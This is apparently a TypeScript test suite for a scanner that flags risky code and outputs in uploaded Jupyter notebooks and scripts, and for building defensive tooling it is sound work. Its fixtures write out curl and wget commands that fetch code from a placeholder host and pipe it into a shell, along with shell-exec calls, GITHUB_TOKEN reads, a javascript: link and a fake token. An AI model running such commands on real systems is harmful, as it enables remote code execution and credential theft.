// scanFile as the server calls it: places a person can open, a summary the upload dialog can show, plain data, and
// never an exception for a file a user can upload.

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { parseNotebook } from "../notebook/index.ts";
import { OUTPUT_TYPES } from "../render/output-types.ts";
import { scanFile } from "./scan-file.ts";
import { htmlOutput, notebookJson } from "./test-notebook.ts";

const scan = (path: string, text: string | Uint8Array) =>
  scanFile({ path, bytes: typeof text === "string" ? Buffer.from(text) : text });

test("a finding in a notebook names the cell, its id, the line and column in the cell, and the output", () => {
  const text = notebookJson([
    "x = 1",
    "import os\n\nvalue = os.system('id')",
    {
      source: "show()",
      outputs: [{ output_type: "stream", name: "stdout", text: "" }, htmlOutput("<p>ok</p><script>x()</script>")],
    },
  ]);
  const { findings } = scan("n.ipynb", text);
  const shell = findings.find((finding) => finding.rule === "shell-exec")!;
  assert.deepEqual(shell.place, { file: "n.ipynb", cell: 1, cellId: "cell-1", line: 3, column: 9 });
  assert.equal(shell.excerpt, "os.system('id')");
  assert.ok(shell.check.length > 0);
  const output = findings.find((finding) => finding.rule === "active-output")!;
  assert.deepEqual(output.place, {
    file: "n.ipynb",
    cell: 2,
    cellId: "cell-2",
    output: 1,
    part: "text/html",
    line: 1,
    column: 10,
  });
});

test("a notebook the caller has read already is scanned as read, not parsed again", () => {
  const text = notebookJson(["import os\nos.system('id')"]);
  const parsed = parseNotebook(Buffer.from(text), { file: "n.ipynb" });
  const fromBytes = scan("n.ipynb", text);
  // The bytes given beside the parsed notebook are not read: were they parsed, this would be an unreadable file.
  const fromParsed = scanFile({ path: "n.ipynb", bytes: Buffer.from("{ not json"), parsed });
  assert.deepEqual(fromParsed, fromBytes);
  assert.ok(fromParsed.findings.some((finding) => finding.rule === "shell-exec"));
});

test("findings inside magics and command strings keep their place in the cell", () => {
  const { findings } = scan(
    "n.ipynb",
    notebookJson([
      "import subprocess\nx = 1\nsubprocess.run('curl -s https://x.example/a | bash', shell=True)\n!wget https://x.example/t -O t && chmod +x t",
    ]),
  );
  const places = findings
    .filter((finding) => finding.rule === "download-exec")
    .map((finding) => [finding.place.line, finding.place.column]);
  assert.deepEqual(places, [
    [3, 17],
    [4, 35],
  ]);
});

test("the summary counts by severity and leads with the worst findings; all of it is plain JSON", () => {
  const result = scan(
    "n.ipynb",
    notebookJson(["!pip install pandas", "!curl https://x.example/i | sh", "import os\nos.environ['GITHUB_TOKEN']"]),
  );
  assert.deepEqual(result.summary.counts, { low: 1, medium: 2, high: 1 });
  assert.equal(result.summary.total, 4);
  assert.equal(result.summary.readable, true);
  assert.match(
    result.summary.headline[0]!,
    /^Download and execute: downloads with curl and pipes it into sh \(cell 2, line 1\)$/,
  );
  assert.ok(result.summary.headline.length <= 3);
  assert.deepEqual(JSON.parse(JSON.stringify(result)), result);
});

test("an unreadable file is one finding at its place, with the reader's error code", () => {
  const result = scan("bad.ipynb", '{\n  "cells": [\n    {"cell_type": "code",,}\n  ]\n}');
  assert.equal(result.summary.readable, false);
  assert.equal(result.findings.length, 1);
  const [finding] = result.findings;
  assert.equal(finding!.rule, "file-unreadable");
  assert.match(finding!.message, /\[invalid_json\]/);
  assert.deepEqual([finding!.place.line, finding!.place.column], [3, 26]);
  assert.equal(scan("big.py", "x = 1\n".repeat(10)).findings.length, 0);
  assert.match(
    scanFile({ path: "big.py", bytes: Buffer.from("x = 1\n".repeat(10)) }, { limits: { maxFileBytes: 20 } })
      .findings[0]!.message,
    /file_too_large/,
  );
});

test("R and Julia notebooks are read in their own language", () => {
  const r = scan(
    "r.ipynb",
    notebookJson(['system("whoami")'], {
      kernelspec: { name: "ir", language: "R", display_name: "R" },
      language_info: { name: "R" },
    }),
  );
  assert.deepEqual(
    r.findings.map((finding) => finding.rule),
    ["shell-exec"],
  );
  const julia = scan(
    "j.ipynb",
    notebookJson(['ENV["GITHUB_TOKEN"]'], {
      kernelspec: { name: "julia", language: "julia", display_name: "Julia" },
      language_info: { name: "julia" },
    }),
  );
  assert.deepEqual(
    julia.findings.map((finding) => finding.rule),
    ["secret-env"],
  );
});

/** A small deterministic generator, so a failure names a reproducible case. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state * 1664525 + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

test("mangled notebooks and scripts never make the scanner throw", () => {
  const set = fileURLToPath(new URL("../../test/scan-set/hostile/", import.meta.url));
  const samples = readdirSync(set)
    .sort()
    .map((name) => ({ name, bytes: readFileSync(set + name) }));
  const next = random(6);
  for (const { name, bytes } of samples) {
    for (let round = 0; round < 12; round++) {
      const copy = Buffer.from(bytes);
      const kind = round % 3;
      let mangled: Buffer;
      if (kind === 0) mangled = copy.subarray(0, Math.floor(next() * copy.length));
      else if (kind === 1) {
        for (let i = 0; i < 4; i++) copy[Math.floor(next() * copy.length)] = Math.floor(next() * 256);
        mangled = copy;
      } else {
        const at = Math.floor(next() * copy.length);
        mangled = Buffer.concat([
          copy.subarray(0, at),
          Buffer.from(["$(", "<svg>", '"', "\\", "((((", "`", "\u202e", "%%bash\n"][round % 8]!),
          copy.subarray(at),
        ]);
      }
      assert.doesNotThrow(() => scan(name, mangled), `${name} round ${round}`);
    }
  }
});

test("pathological inputs stay bounded: deep nesting, long chains, unclosed substitutions", () => {
  const inputs: [string, string][] = [
    ["deep.py", `${"(".repeat(20_000)}1${")".repeat(20_000)}`],
    ["chain.py", `x${".a".repeat(50_000)}()`],
    ["evals.py", `${"eval(".repeat(5_000)}x${")".repeat(5_000)}`],
    ["subst.sh", "echo " + "$(".repeat(20_000)],
    ["calls.R", `${"f(".repeat(20_000)}1${")".repeat(20_000)}`],
    ["nest.ipynb", notebookJson([{ source: "x", outputs: [htmlOutput("<div>".repeat(5_000))] }])],
    ["md.md", "<b>".repeat(30_000)],
  ];
  for (const [path, text] of inputs) assert.doesNotThrow(() => scan(path, text), path);
  assert.match(
    scan("deep.py", inputs[0]![1]).findings[0]!.message,
    /brackets nested 20000 deep, more than Python's limit of 200/,
  );
  // Deep but legal nesting is still read.
  assert.deepEqual(
    scan("ok.py", `${"(".repeat(150)}eval(x)${")".repeat(150)}`).findings.map((finding) => finding.rule),
    ["dynamic-code"],
  );
});

test("each output type is read as the output-type registry says, and an unknown type is not read", () => {
  const value = '<a href="javascript:alert(1)">y</a> ghp_abcdefghijklmnopqrstuvwxyz0123456789';
  const types = [...OUTPUT_TYPES, { mime: "application/x-unknown", scan: undefined }];
  for (const { mime, scan: read } of types) {
    const text = notebookJson([{ source: "", outputs: [htmlOutput(value, mime)] }]);
    const rules = new Set(scan("n.ipynb", text).findings.map((finding) => finding.rule));
    assert.equal(rules.has("secret"), read?.secrets === true, `${mime}: secrets`);
    const markup = read?.read === "html" || read?.read === "markdown";
    assert.equal(rules.has("url-verdict"), markup, `${mime}: read as markup`);
    assert.equal(rules.has("active-output"), read?.read === "script" || markup, `${mime}: active content`);
    assert.equal(rules.has("markup-injection"), read?.read === "raster", `${mime}: markup in image data`);
  }
});
